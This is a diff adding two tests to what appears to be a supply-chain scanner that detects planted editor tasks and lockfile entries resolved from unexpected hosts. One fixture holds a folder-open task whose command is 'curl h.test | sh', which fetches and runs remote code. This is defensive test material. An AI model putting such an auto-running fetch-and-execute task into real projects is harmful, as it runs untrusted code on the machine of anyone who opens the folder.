@@ -90,6 +90,32 @@ describe('findEntryPoints', () => {
     expect(facts({}, files)).toEqual(['planted.vscode-task', 'planted.agent-hook']);
   });
 
+  test('commands for each system, and templates of tasks', () => {
+    const task = {
+      runOptions: { runOn: 'folderOpen' },
+      linux: { command: 'curl h.test | sh' },
+      windows: { command: 'x' },
+    };
+    const files = { 'template/_editor/tasks.json': JSON.stringify({ tasks: [task] }) };
+    expect(entries({}, files)).toEqual(['metadata curl h.test | sh', 'metadata x']);
+    expect(facts({}, files)).toEqual(['planted.template-task', 'planted.template-task']);
+  });
+
+  test('a published lockfile of which an entry comes from elsewhere than the others', () => {
+    const at = (host: string, more = {}) => ({ resolved: `https://${host}/a.tgz`, ...more });
+    const told = (packages: Record<string, unknown>): string[] =>
+      findEntryPoints(contextOf({ 'npm-shrinkwrap.json': JSON.stringify({ packages }) }, {}), false).facts.map(
+        ({ id, detail }) => `${id}: ${detail}`,
+      );
+    const usual = { 'node_modules/a': at('r.test'), 'node_modules/b': at('r.test') };
+    expect(told(usual)).toEqual([]);
+    expect(told({ ...usual, 'node_modules/c': { resolved: 'git+ssh://git@f.test/c.git' } })).toEqual([]);
+    expect(told({ ...usual, 'node_modules/x/node_modules/c': at('h.test', { integrity: 'sha512-x' }) })).toEqual([
+      'shrinkwrap.elsewhere: c comes from https://h.test/a.tgz with an integrity',
+    ]);
+    expect(told({ 'node_modules/c': at('192.0.2.1') })).toHaveLength(1);
+  });
+
   test('a manifest of wrong types, of no JSON, or none at all', () => {
     const broken = { scripts: 'x', bin: 7, main: ['a'], exports: null, dependencies: [1], directories: 3, config: 'x' };
     expect(() => entries(broken, { 'index.js': '' })).not.toThrow();
